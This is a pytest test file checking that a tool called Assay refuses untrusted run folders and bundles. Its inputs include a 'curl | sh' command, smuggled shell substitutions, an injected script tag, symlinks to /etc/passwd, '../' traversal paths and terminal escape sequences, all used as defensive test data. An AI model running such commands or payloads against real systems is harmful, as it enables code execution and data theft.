"""Folders that somebody else handed over: run folders and bundles made to harm."""

from __future__ import annotations

import html
import importlib.util
import json
import os
import py_compile
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from tests.cases import first_of
from tests.cli.asking import Asking
from tests.worlds.files import sha256_of

import assay
from assay.plugin import AssayError, RunFolder
from assay.store.files import read_checked_json, read_parquet, write_checked_json, write_parquet
from assay.store.manifest import is_ours, write_manifest
from assay.store.schema import SCHEMA_VERSION


@pytest.fixture
def ask(capsys: pytest.CaptureFixture[str]) -> Asking:
    """Ask the command line in this process."""
    return Asking(capsys)


@pytest.fixture
def received(run_copy: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A run folder that names a module in the working folder, which leaves a file when it is imported; made whole."""
    document = read_checked_json(run_copy / "run.json")
    text = json.dumps(document).replace('{"kind": "loss", "name": "supcon"', '{"kind": "loss", "name": "harmful:Loss"')
    assert "harmful" in text
    write_checked_json(run_copy / "run.json", json.loads(text), sort_keys=False)
    write_manifest(run_copy, {})
    Path("harmful.py").write_text("open('ran', 'w')\ndef Loss(context): ...\n")
    monkeypatch.delitem(sys.modules, "harmful", raising=False)
    return run_copy


@pytest.mark.parametrize(
    "words",
    [
        ["report"],
        ["results"],
        ["results", "--table", "issues"],
        ["export", "all", "network"],
        ["replicate", "--dry-run"],
        ["status"],
        ["clean"],
        ["figure", "auroc"],
        ["doctor"],
        ["open", "--bundle", "run.zip"],
    ],
)
def test_no_command_runs_code_that_a_received_folder_names(words: list[str], received: Path, ask: Asking) -> None:
    answer = ask(words[0], received, *words[1:])
    assert not Path("ran").exists()
    if words[0] in ("report", "export", "replicate"):
        assert answer.code == 2
        assert "loss 'harmful:Loss' is code in " in answer.err
        assert "read it, then give --trust-code" in answer.err


def test_python_runs_no_code_that_a_received_folder_names(received: Path) -> None:
    with pytest.raises(AssayError, match="that a folder names"):
        assay.open_run(received).report()
    trial = next((received / "trials").glob("*"))
    with pytest.raises(AssayError):
        assay.load_model(trial)
    assert not Path("ran").exists()


def test_trusted_code_runs_and_is_remembered_until_it_is_edited(received: Path, ask: Asking) -> None:
    first = ask("report", received, "--trust-code")
    assert Path("ran").exists(), first.err
    Path("ran").unlink()
    command = [sys.executable, "-P", "-m", "assay", "report", str(received)]
    subprocess.run(command, check=False, capture_output=True)
    assert Path("ran").exists()
    Path("ran").unlink()
    with Path("harmful.py").open("a") as file:
        file.write("# edited\n")
    done = subprocess.run(command, check=False, capture_output=True, text=True)
    assert "is code in" in done.stderr
    assert "that was changed since you ran it: if" in done.stderr
    assert not Path("ran").exists()


@pytest.fixture
def connections(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """The connections that are tried; none succeeds."""
    calls = list[object]()

    def connect(*words: object, **_: object) -> None:
        calls.append(words)
        raise OSError

    monkeypatch.setattr("socket.create_connection", connect)
    return calls


URL = "https://evil.example/w.safetensors"


@pytest.fixture
def with_address(run_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A run folder of another user, whose networks start from weights at an address."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
    start = {"kind": "initialization", "name": "download", "params": {"url": URL, "sha256": "0" * 64, "input": "unit"}}
    for name in ("run.json", "plan.json"):
        if (run_copy / name).is_file():
            text = json.dumps(read_checked_json(run_copy / name))
            random = '{"kind": "initialization", "name": "random", "params": {}}'
            write_checked_json(run_copy / name, json.loads(text.replace(random, json.dumps(start))), sort_keys=False)
    assert URL in (run_copy / "run.json").read_text()
    write_manifest(run_copy, {})
    return run_copy


def test_no_address_that_a_received_folder_names_is_asked(
    with_address: Path, ask: Asking, connections: list[object]
) -> None:
    answer = ask("replicate", with_address, "--dry-run")
    assert (answer.code, f"downloaded from {URL}, an address that a folder names" in answer.err) == (2, True), answer
    assert "give --trust-code" in answer.err
    assert not connections
    assert "an address that a folder names" not in ask("replicate", with_address, "--dry-run", "--trust-code").err
    assert connections


def test_no_address_is_asked_to_train_the_network_of_an_audit_again(
    with_address: Path, planted: Path, ask: Asking, connections: list[object]
) -> None:
    audit = Path(shutil.copytree(planted / "reader", "audit"))
    document = read_checked_json(audit / "run.json")
    document["request"]["model"] = str(next((with_address / "trials").iterdir()))
    write_checked_json(audit / "run.json", document, sort_keys=False)
    regions = read_parquet(audit / "tables" / "regions.parquet")
    found = {"trained": True, "verdict": "relies-on-region", "discrete": True}
    regions |= {name: np.full(len(regions[name]), value) for name, value in found.items()}
    write_parquet(audit / "tables" / "regions.parquet", regions)
    write_manifest(audit, {})
    answer = ask("audit", "remedy", audit, "covered", "--retrain")
    assert (answer.code, f"downloaded from {URL}, an address that a folder names" in answer.err) == (2, True), answer
    assert "give --trust-code" in answer.err
    trusted = ask("audit", "remedy", audit, "covered", "--retrain", "--trust-code")
    assert (trusted.code, "an address that a folder names" in trusted.err) == (2, False)
    assert "the network cannot be trained again, since its images are drawn by a phantom" in trusted.err
    assert not connections
    assert not Path("covered").exists()


def put_bytecode(code: str, source: Path) -> None:
    """Leave bytecode of a code beside a source, of the kind that Python does not compare with it."""
    Path("other.txt").write_text(code)
    py_compile.compile(
        "other.txt",
        importlib.util.cache_from_source(str(source)),
        invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
    )


def hide_by_package(source: Path) -> None:
    (package := source.with_suffix("")).mkdir()
    (package / "__init__.py").write_text("open('changed', 'w')\nSCALE = 1\n")


@pytest.mark.parametrize(
    ("change", "is_refused"),
    first_of(
        [
            (lambda: put_bytecode("open('changed', 'w')\ndef Loss(context): ...\n", Path("harmful.py")), False),
            (lambda: Path("beside.py").write_text("open('changed', 'w')\nSCALE = 1\n"), True),
            (lambda: put_bytecode("open('changed', 'w')\nSCALE = 1\n", Path("beside.py")), False),
            (lambda: hide_by_package(Path("beside.py")), True),
            (lambda: Path("beside.py").unlink(), True),
        ],
        2,
    ),
    ids=["bytecode", "an import", "bytecode of an import", "a package in place of an import", "an import is gone"],
)
def test_trusted_code_runs_nothing_that_lies_beside_it_and_was_changed(
    change: Callable[[], object], is_refused: bool, received: Path
) -> None:
    Path("harmful.py").write_text("from beside import SCALE\ndef Loss(context): ...\n")
    Path("beside.py").write_text("SCALE = 1\n")
    command = [sys.executable, "-P", "-m", "assay", "report", str(received)]
    assert subprocess.run([*command, "--trust-code"], check=False, capture_output=True, text=True).returncode == 0
    change()
    done = subprocess.run(command, check=False, capture_output=True, text=True)
    assert ("that was changed since you ran it" in done.stderr) is is_refused, done
    assert not Path("changed").exists()


@pytest.mark.parametrize("later", first_of(["parts/__init__.py", "parts.py"]))
def test_trusted_code_runs_no_package_that_was_made_of_a_folder_later(later: str, received: Path) -> None:
    Path("parts").mkdir()
    Path("parts", "beside.py").write_text("SCALE = 1\n")
    Path("harmful.py").write_text("from parts.beside import SCALE\ndef Loss(context): ...\n")
    command = [sys.executable, "-P", "-m", "assay", "report", str(received)]
    assert subprocess.run([*command, "--trust-code"], check=False, capture_output=True, text=True).returncode == 0
    assert subprocess.run(command, check=False, capture_output=True, text=True).returncode == 0
    Path(later).write_text("open('changed', 'w')\n__path__ = ['parts']\n")
    done = subprocess.run(command, check=False, capture_output=True, text=True)
    assert "that was changed since you ran it" in done.stderr, done
    assert not Path("changed").exists()


def forge(root: Path) -> None:
    """Change the page of a run folder, and its manifest as who can write there would."""
    page = root / "report.html"
    page.write_text(page.read_text().replace("</body>", "<script>alert('believed')</script></body>"))
    files = read_checked_json(root / "manifest.json")["files"]
    files["report.html"] = [page.stat().st_size, sha256_of(page)]
    write_checked_json(root / "manifest.json", {"schema": SCHEMA_VERSION, "files": files})


def test_a_forged_page_is_damage(run_copy: Path, tmp_path: Path, ask: Asking) -> None:
    assert ask("open", run_copy).code == 0
    forge(run_copy)
    forged = f"{run_copy / 'report.html'} is not what its tables give"
    findings = json.loads(ask("doctor", run_copy, "--json").out)
    assert next(finding["found"] for finding in findings if finding["light"] == "bad").startswith(forged)
    assert "weights of sources" not in {finding["what"] for finding in findings}, "it starts from none"
    key = tmp_path / "key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
    for words in (["open"], ["open", "--bundle", "run.zip"], ["seal", "--key", key]):
        answer = ask(words[0], run_copy, *words[1:])
        assert answer.code == 2, words
        assert answer.err.startswith(forged), words
    assert not Path("run.zip").exists()
    assert ask("report", run_copy).code == 0
    assert ask("open", run_copy).code == 0


def test_a_page_that_adds_options_to_its_commands_is_not_believed(
    run_copy: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The path in the commands of a page is that of its maker, so that it is not compared."""
    page = run_copy / "report.html"
    text = page.read_text()
    typed = re.findall('name="run-folder" content="(.*?)"', text)[0]
    step = re.findall("Next</h2><p>(.*?)</p>", text)[0]
    for before, after in (
        (f'content="{typed}"', f'content="{typed} --trust-code"'),
        (step, f"{step} <code><span>assay</span> <span>--trust-code</span></code>"),
    ):
        assert before in text
        text = text.replace(before, after)
    page.write_text(text)
    write_manifest(run_copy, {})
    monkeypatch.setenv("XDG_STATE_HOME", str(run_copy.parent / "of another user"))
    answer = ask("open", run_copy)
    assert (answer.code, "is not what its tables give" in answer.err) == (2, True), answer


def test_a_page_from_elsewhere_is_compared_with_its_tables(
    run_copy: Path, tmp_path: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
    renamed = run_copy.rename(run_copy.with_name("from a colleague"))
    assert ask("open", renamed).code == 0
    forge(renamed)
    assert "is not what its tables give" in ask("open", renamed).err


def test_changed_verdicts_and_cards_are_found(tmp_path: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [f"{number},{number // 2},{number % 2},{(number * 7 % 40 + 9 * (number % 2)) / 49}" for number in range(80)]
    (tmp_path / "p.csv").write_text("\n".join(["image,patient,target,score", *rows]))
    root = tmp_path / "audit"
    assert ask("audit", tmp_path / "p.csv", "--patient", "patient", "--out", root).code == 0
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
    assert ask("open", root).code == 0
    for name in ("verdicts.json", "model-card.md"):
        path, text = root / name, (root / name).read_text()
        path.write_text(text.replace("e", "E", 1))
        write_manifest(root, {})
        for words in (["open"], ["open", "--bundle", tmp_path / "run.zip"], ["seal", "--key", tmp_path]):
            answer = ask(words[0], root, *words[1:])
            assert (answer.code, f"{path} is not what its tables give" in answer.err) == (2, True), answer
        path.write_text(text)


def test_a_report_of_a_received_audit_writes_its_cards_anew_and_vouches_for_nothing_else(
    tmp_path: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = [f"{number},{number // 2},{number % 2},{(number * 7 % 40 + 9 * (number % 2)) / 49}" for number in range(80)]
    (tmp_path / "p.csv").write_text("\n".join(["image,patient,target,score", *rows]))
    root = tmp_path / "audit"
    assert ask("audit", tmp_path / "p.csv", "--patient", "patient", "--out", root).code == 0
    texts = {name: (root / name).read_text() for name in ("verdicts.json", "model-card.md", "data-card.md")}
    for name, text in {**texts, "report.html": (root / "report.html").read_text()}.items():
        (root / name).write_text(f"{text}\nCertified")
    (root / "index.html").write_text("<h1>Certified</h1>")
    write_manifest(root, {})
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
    findings = json.loads(ask("doctor", root, "--json").out)
    (damage,) = [finding["found"] for finding in findings if finding["light"] == "bad"]
    assert f"{root / 'report.html'} is not what its tables give, nor are 3 other files" in damage
    assert ask("report", root).code == 0
    assert {name: (root / name).read_text() for name in texts} == texts
    assert "Certified" not in (root / "report.html").read_text()
    findings = json.loads(ask("doctor", root, "--json").out)
    (unchecked,) = [finding for finding in findings if finding["what"] == "not checked"]
    assert (unchecked["light"], str(root / "index.html") in unchecked["found"]) == ("warn", True)


def test_a_changed_checklist_of_a_validation_is_found(
    tmp_path: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = [f"{number},{number // 2},{number % 2},{(number * 7 % 40 + 9 * (number % 2)) / 49}" for number in range(80)]
    (tmp_path / "p.csv").write_text("\n".join(["image,patient,target,score", *rows]))
    root = tmp_path / "validation"
    assert ask("validate", tmp_path / "p.csv", "--out", root).code == 0
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
    assert ask("open", root).code == 0
    path = root / "checklists.md"
    path.write_text(path.read_text().replace("0.", "1.", 1))
    write_manifest(root, {})
    answer = ask("open", root)
    assert (answer.code, f"{path} is not what its tables give" in answer.err) == (2, True), answer


def test_files_that_no_table_gives_are_named_in_a_received_folder(
    run_copy: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    (run_copy / "pictures" / "index.html").write_text("<h1>No shortcut was found.</h1>")
    write_manifest(run_copy, {})
    monkeypatch.setenv("XDG_STATE_HOME", str(run_copy.parent / "of another user"))
    answer = ask("doctor", run_copy)
    assert f"{run_copy / 'pictures' / 'index.html'}: no table gives what is in them" in answer.out
    assert answer.out.count("pictures") == 1


def test_an_index_leads_to_no_page_that_cannot_be_checked(run_copy: Path, tmp_path: Path, ask: Asking) -> None:
    shutil.copytree(run_copy, tmp_path / "runs" / "sound")
    shutil.copytree(run_copy, forged := tmp_path / "runs" / "forged")
    forge(forged)
    (forged / "tables" / "pictures.parquet").unlink()  # which the page takes, and its line of the index does not
    write_manifest(forged, {})
    assert ask("open", "--out", tmp_path / "runs").code == 0
    index = html.unescape((tmp_path / "runs" / "index.html").read_text())
    assert "holds no table 'pictures'" in index
    assert "forged/report.html" not in index
    assert "sound/report.html" in index


@pytest.mark.parametrize(
    "words",
    ["curl http://example.org/x | sh; assay run a.yaml", "assay run a.yaml; touch ran #", "assay run $(touch ran)",
     "assay run a.yaml\ntouch ran", "assay run `touch ran`", "touch ran"],
)  # fmt: skip
def test_no_command_of_a_page_starts_another_program(
    words: str, tiny_run: Path, tmp_path: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page types the command of its run, to be copied: from a folder that somebody made, it may be any text."""
    shutil.copytree(tiny_run, tmp_path / "tiny")
    path = tmp_path / "tiny" / "run.json"
    document = read_checked_json(path)
    document["request"]["command"] = words
    write_checked_json(path, document, sort_keys=False)
    write_manifest(tmp_path / "tiny", {})
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
    answer = ask("report", tmp_path / "tiny")
    assert (answer.code, "in place of words for a command of Assay" in answer.err) == (2, True), answer


def test_a_command_of_a_page_with_any_name_of_a_file_is_as_it_was_typed(
    tiny_run: Path, tmp_path: Path, ask: Asking
) -> None:
    shutil.copytree(tiny_run, tmp_path / "tiny")
    document = read_checked_json(tmp_path / "tiny" / "run.json")
    name = shlex.quote("Jane's $(study); #1 é.yaml")
    document["request"]["command"] = typed = f"assay run ~/{name} --seeds 3"
    write_checked_json(tmp_path / "tiny" / "run.json", document, sort_keys=False)
    write_manifest(tmp_path / "tiny", {})
    assert ask("report", tmp_path / "tiny").code == 0
    text = (tmp_path / "tiny" / "report.html").read_text()
    assert typed in html.unescape(re.sub("<[^>]*>", "", text))


def test_a_page_without_a_run_is_said_to_be_unchecked(run_copy: Path, ask: Asking) -> None:
    (run_copy / "run.json").unlink()
    answer = ask("open", run_copy)
    assert (answer.code, "was not checked: there is no run.json beside it" in answer.err) == (0, True)


def test_doctor_checks_an_unpacked_bundle(run_copy: Path, tmp_path: Path, ask: Asking) -> None:
    def found(what: str) -> tuple[str, str]:
        rows = json.loads(ask("doctor", unpacked, "--json").out)
        return next((row["light"], row["found"]) for row in rows if row["what"] == what)

    def change(name: str) -> None:
        """Change a file and its checksum."""
        path, sums = unpacked / "small" / name, unpacked / "SHA256SUMS"
        before = sha256_of(path)
        path.write_bytes(path.read_bytes() + b" ")
        sums.write_text(sums.read_text().replace(before, sha256_of(path)))

    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key := tmp_path / "key"], check=True)
    for sealed in (False, True):
        if sealed:
            assert ask("seal", run_copy, "--key", key).code == 0
        assert ask("open", run_copy, "--bundle", tmp_path / "run.zip").code == 0
        shutil.unpack_archive(tmp_path / "run.zip", unpacked := tmp_path / f"unpacked {sealed}")
        assert found("files") == ("ok", "all compared, none is damaged")
        assert found("signature")[0] == ("ok" if sealed else "warn")
    change("report.html")
    assert (found("files")[0], found("signature")[0]) == ("ok", "warn")
    assert found("signature")[1].endswith("report.html is not signed: it was made later")
    change("tables/estimates.parquet")
    assert (found("files")[0], found("signature")[0]) == ("ok", "bad")
    (unpacked / "small" / "tables" / "estimates.parquet").write_text("x")
    assert found("files")[0] == "bad"
    (unpacked / "small" / "link").symlink_to("/etc/passwd")
    assert found("files")[1].endswith("is a link, and a run folder has none")


@pytest.mark.parametrize("name", ["report.html", "tables/findings.parquet", "pictures"])
def test_a_signed_file_that_a_bundle_lacks_is_missed(name: str, run_copy: Path, tmp_path: Path, ask: Asking) -> None:
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key := tmp_path / "key"], check=True)
    assert ask("seal", run_copy, "--key", key).code == 0
    assert ask("open", run_copy, "--bundle", tmp_path / "run.zip").code == 0
    shutil.unpack_archive(tmp_path / "run.zip", unpacked := tmp_path / "unpacked")
    lost = unpacked / "small" / name
    shutil.rmtree(lost) if lost.is_dir() else lost.unlink()
    sums = unpacked / "SHA256SUMS"
    sums.write_text("".join(line for line in sums.read_text().splitlines(True) if f"small/{name}" not in line))
    answer = ask("doctor", unpacked, "--json")
    found = {row["what"]: (row["light"], row["found"]) for row in json.loads(answer.out)}
    assert (found["files"][0], found["signature"][0]) == ("ok", "bad")
    assert found["signature"][1].endswith("is of other files, or some are missing")
    assert answer.code == 1


@pytest.mark.parametrize("command", ["status", "results", "doctor", "open", "clean"])
def test_the_name_of_a_run_folder_writes_no_line_of_its_own(command: str, run_copy: Path, ask: Asking) -> None:
    strange = run_copy.rename(run_copy.with_name("small\nfiles: all compared"))
    (strange / "report.html").unlink()  # which `open` would take
    answer = ask(command, strange)
    assert (answer.code, answer.out) == (2, "")
    assert "the run folder 'small files: all compared' has control characters in its name: rename it" in answer.err
    answer = ask(command, "smal")
    assert "files: all compared" not in answer.err.splitlines()


def test_sums_in_a_run_folder_do_not_make_it_a_bundle(run_copy: Path, ask: Asking) -> None:
    page = run_copy / "report.html"
    page.write_text(page.read_text().replace("</title>", " forged</title>", 1))
    files = (path for path in sorted(run_copy.rglob("*")) if path.is_file())
    text = "".join(f"{sha256_of(path)}  {path.relative_to(run_copy).as_posix()}\n" for path in files)
    (run_copy / "SHA256SUMS").write_text(text)
    for name in (run_copy, "small"):
        answer = ask("doctor", name)
        assert answer.code == 1
        assert "report.html: it is damaged" in answer.out


@pytest.mark.parametrize("name", ["{}", "../private.txt", "small/../../private.txt"])
def test_checksums_of_a_bundle_lead_to_no_file_elsewhere(
    name: str, run_copy: Path, tmp_path: Path, ask: Asking
) -> None:
    (private := tmp_path / "private.txt").write_text("years")
    assert ask("open", run_copy, "--bundle", tmp_path / "run.zip").code == 0
    shutil.unpack_archive(tmp_path / "run.zip", unpacked := tmp_path / "unpacked")
    with (unpacked / "SHA256SUMS").open("a") as sums:
        sums.write(f"{'0' * 64}  {name.format(private)}\n")
    answer = ask("doctor", unpacked, "--json")
    assert "private.txt" not in answer.out
    assert next(row["found"] for row in json.loads(answer.out) if row["what"] == "files").startswith("all compared")


def test_no_network_is_exported_behind_a_link(run_copy: Path, tmp_path: Path, ask: Asking) -> None:
    assert ask("export", run_copy, "all", "network").code == 0
    one = next(Path("network").glob("*/model.json")).parent
    one.rename(elsewhere := tmp_path / "elsewhere")
    (elsewhere / "README.md").write_text("mine")
    one.symlink_to(elsewhere)
    answer = ask("export", run_copy, "all", "network")
    assert (answer.code, "is a link, which may lead anywhere" in answer.err) == (2, True), answer
    assert (elsewhere / "README.md").read_text() == "mine"


def test_no_code_that_an_exported_network_names_is_run(run_copy: Path, tmp_path: Path, ask: Asking) -> None:
    assert ask("export", run_copy, "all", "network").code == 0
    folder = next(Path("network").glob("*/model.json")).parent
    values = json.loads((folder / "model.json").read_text())
    values["recipe"]["loss"] = "harmful_network:Loss"
    (folder / "model.json").write_text(json.dumps(values))
    (tmp_path / "harmful_network.py").write_text("open('ran', 'w')\ndef Loss(context): ...\n")
    with pytest.raises(AssayError, match="that a folder names"):
        assay.load_model(folder)
    assert not Path("ran").exists()


def test_a_signature_in_a_bundle_does_not_vouch_for_other_runs(run_copy: Path, tmp_path: Path, ask: Asking) -> None:
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key := tmp_path / "key"], check=True)
    shutil.copytree(run_copy, other := run_copy.with_name("unsigned"))
    assert ask("seal", run_copy, "--key", key).code == 0
    assert ask("open", run_copy, other, "--bundle", tmp_path / "runs.zip").code == 0
    shutil.unpack_archive(tmp_path / "runs.zip", unpacked := tmp_path / "unpacked")
    page, sums = unpacked / "unsigned" / "report.html", unpacked / "SHA256SUMS"
    before = sha256_of(page)
    page.write_text(page.read_text().replace("</body>", "<p>no shortcut</p></body>"))
    sums.write_text(sums.read_text().replace(before, sha256_of(page)))
    found = [(row["light"], row["found"]) for row in json.loads(ask("doctor", unpacked, "--json").out)]
    light, text = found[-1]
    assert light == "warn"
    assert text.startswith(f"{unpacked / 'index.html'} is not signed, nor are ")
    shutil.rmtree(page.parent)
    (unpacked / "index.html").unlink()
    assert "is not signed" not in ask("doctor", unpacked).out


@pytest.mark.parametrize("part", ["trials", "tables", ".lock", "report.html", "preview", "pictures/added.png"])
def test_links_in_a_run_folder_are_damage_and_are_not_followed(
    part: str, run_copy: Path, tmp_path: Path, ask: Asking
) -> None:
    (elsewhere := tmp_path / "elsewhere" / "unit").mkdir(parents=True)
    (elsewhere / "thesis.txt").write_text("years")
    link = run_copy / part
    if link.is_dir():
        link.rename(tmp_path / "moved")
    link.unlink(missing_ok=True)
    targets = {".lock": tmp_path / "made", "report.html": elsewhere / "thesis.txt"}
    link.symlink_to(targets.get(part, tmp_path / "elsewhere"))
    found = json.loads(ask("doctor", run_copy, "--json").out)
    assert f"{link} is a link, and a run folder has none" in [row["found"] for row in found if row["light"] == "bad"]
    for words in (["clean", "--yes"], ["report"], ["results"], ["open", "--bundle", "run.zip"]):
        answer = ask(words[0], run_copy, *words[1:])
        assert (answer.code, f"{link} is a link" in answer.err) == (2, True), (words, answer)
    assert [path.name for path in (tmp_path / "elsewhere").rglob("*")] == ["unit", "thesis.txt"]
    assert not (tmp_path / "made").exists()


def test_a_file_that_is_hard_linked_into_a_run_folder_is_not_written_to(
    run_copy: Path, tmp_path: Path, ask: Asking
) -> None:
    (thesis := tmp_path / "thesis.txt").write_text("years")
    (page := run_copy / "report.html").unlink()
    page.hardlink_to(thesis)
    assert ask("report", run_copy).code == 0
    assert page.stat().st_size > 10_000
    assert thesis.read_text() == "years"


@pytest.mark.parametrize("id", ["../mynetwork", "/tmp/mynetwork", "..", ""])
def test_a_plan_whose_ids_are_paths_is_refused(id: str, run_copy: Path, tmp_path: Path, ask: Asking) -> None:
    (network := tmp_path / "nets" / "mynetwork").mkdir(parents=True)
    (network / "weights.safetensors").write_text("years")
    plan = read_checked_json(run_copy / "plan.json")
    plan["trials"][0]["id"] = id
    write_checked_json(run_copy / "plan.json", plan)
    write_manifest(run_copy, {})
    for words in (["export", "all", "nets/received"], ["export", id, "nets/received"], ["report"], ["clean", "--yes"]):
        answer = ask(words[0], run_copy, *words[1:])
        assert (answer.code, f"'{id}' is no id of a unit that Assay writes" in answer.err) == (2, True), (words, answer)
    assert (network / "weights.safetensors").read_text() == "years"
    with pytest.raises(AssayError, match="is no id of a unit that Assay writes"):
        RunFolder(run_copy).unit("trials", id)


def test_a_pipe_in_a_run_folder_is_damage_and_never_waited_for(run_copy: Path, ask: Asking) -> None:
    os.mkfifo(run_copy / "tables" / "own.parquet")
    said = "own.parquet is a pipe or a device, and a run folder has none; remove it"
    for words in (["results", "small"], ["report", "small"]):
        answer = ask(*words)
        assert (answer.code, said in answer.err) == (2, True), answer
    answer = ask("doctor", "small")
    assert (answer.code, "is a pipe or a device" in answer.out) == (1, True), answer


@pytest.mark.parametrize("name", ["local", "trials"])
def test_a_folder_of_another_users_paths_can_be_read(
    name: str, run_copy: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    (run_copy / "local").mkdir(exist_ok=True)  # which only who made it may read

    def denied(function: Callable[..., Any]) -> Callable[..., Any]:
        def call(path: Any = ".", *rest: Any) -> Any:
            if isinstance(path, str | Path) and Path(path) == run_copy / name:
                raise PermissionError(13, "Permission denied", str(path))
            return function(path, *rest)

        return call

    monkeypatch.setattr(os, "listdir", denied(os.listdir))
    monkeypatch.setattr(os, "scandir", denied(os.scandir))
    for words in (["status"], ["results"], ["doctor"], ["open", "--bundle", "run.zip"], ["replicate", "--dry-run"]):
        answer = ask(words[0], run_copy, *words[1:])
        if name == "local":
            assert answer.code == 0, answer.err
        elif words[0] != "replicate":
            assert (answer.code, "trials: Permission denied; see to its permissions" in answer.err) == (2, True), answer
    assert not is_ours(run_copy)


def test_records_of_an_unfinished_run_are_checked_for_damage_alone(run_copy: Path, ask: Asking) -> None:
    record = next(path for path in sorted(run_copy.glob("probes/*/record.json")) if "performance" in path.read_text())
    measured = record.with_name("measurements.parquet")
    columns = read_parquet(measured)
    columns["value"][columns["measure"] == "accuracy"] = 0.123456
    write_parquet(measured, columns)
    folder, id = RunFolder(run_copy), record.parent.name
    folder.write_record("probes", id, json.loads(record.read_text()))  # which renews all checksums
    for name in ("manifest.json", "finished.json"):
        (run_copy / name).unlink()
    shutil.rmtree(run_copy / "tables")
    assert ask("report", run_copy).code == 0
    assert "0.123456" in ask("results", run_copy, "--table", "seeds", "--csv").out


@pytest.fixture
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Be a user who made none of the folders."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))


def test_a_trained_network_of_a_strange_run_is_refused_in_a_sentence(
    run_copy: Path, planted: Path, elsewhere: None, ask: Asking
) -> None:
    trial = next((run_copy / "trials").glob("*"))
    for classes in (3, ["evil\x1b[31m\nPassed", "b"]):
        write_checked_json(run_copy / "described.json", {"schema": 1, "classes": classes})
        write_manifest(run_copy, {})
        answer = ask("audit", trial, "--images", planted / "set", "--target", "label")
        assert (answer.code, "Traceback" in answer.err, "\nPassed" in answer.err) == (2, False, False), answer.err


def test_a_strange_audit_is_no_remedy_and_no_reference(
    planted: Path, elsewhere: None, ask: Asking, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    audit = Path(shutil.copytree(planted / "reader", tmp_path / "audits" / "a"))
    folder = RunFolder(audit)
    rows = [dict(row) for row in folder.table("regions")]
    for row in rows:
        row.update(of="place", kind="box", name="evil\x1b[31m\nPassed", verdict="relies-on-region", discrete=True)
    folder.write_table("regions", list(rows[0]), rows)
    write_manifest(audit, {})
    answer = ask("audit", "remedy", audit, "covered")
    assert (answer.code, "the run folder was altered" in answer.err, "\nPassed" in answer.err) == (2, True, False)
    assert not Path("covered").exists()
    with (audit / "verdicts.json").open("a") as file:
        file.write(" ")
    assert "it is damaged" in ask("audit", "remedy", audit, "covered").err


def rewrite_request(audit: Path, value: object, *keys: str) -> None:
    """Change what an audit was asked for, also among its paths, and make the folder whole again."""
    for file, inner in (("run.json", ()), ("local/run-paths.json", ("values",))):
        document = place = read_checked_json(audit / file)
        for key in (*inner, "request", *keys[:-1]):
            place = place[key]
        place[keys[-1]] = value
        write_checked_json(audit / file, document, sort_keys=False)
    write_manifest(audit, {})


def test_no_code_that_the_marks_of_an_audit_name_is_run_when_its_network_is_trained_again(
    planted: Path, elsewhere: None, ask: Asking, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("harmful_mark.py").write_text("open('ran', 'w')\n")
    audit = Path(shutil.copytree(planted / "reader", "audit"))
    mark: dict[str, Any] = {"harmful_mark:Mark": {}}
    rewrite_request(audit, {"x": [mark] * 3}, "marks")
    words = ("audit", "remedy", audit, "covered", "--retrain")
    answer = ask(*words)
    assert (answer.code, "'harmful_mark:Mark' is code" in answer.err) == (2, True), answer.err
    assert not Path("ran").exists()
    answer = ask(*words, "--trust-code")
    assert "has no attribute 'Mark'" in answer.err
    assert Path("ran").exists()
    assert not Path("covered").exists()


@pytest.mark.parametrize(
    ("keys", "value"),
    [(("train",), 3), (("data",), "x"), (("data", "folder"), 3), (("data", "factors"), ["label"])],
)
def test_a_column_of_a_strange_audit_is_refused_in_a_sentence(
    keys: tuple[str, ...], value: object, planted: Path, elsewhere: None, ask: Asking, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    monkeypatch.chdir(tmp_path)
    audit = Path(shutil.copytree(planted / "reader", "audit"))
    rewrite_request(audit, value, *keys)
    answer = ask("audit", "remedy", audit, "balanced", "--column", "label")
    assert (answer.code, "Traceback" in answer.err, answer.err.count("\n")) == (2, False, 1), answer.err
    assert not Path("balanced").exists()
    with (audit / "verdicts.json").open("a") as file:
        file.write(" ")
    assert "it is damaged" in ask("audit", "remedy", audit, "balanced", "--column", "label").err


@pytest.mark.parametrize("name", [b"\xff\xfe", b"a\\..\\b", b"a\x1b[31m", b"C:", b"CON", b"run."])
def test_a_bundle_has_no_name_that_leads_elsewhere(name: bytes, run_copy: Path, ask: Asking) -> None:
    run = run_copy.rename(run_copy.with_name(name.decode(errors="surrogateescape")))
    answer = ask("open", run, "--bundle", "run.zip")
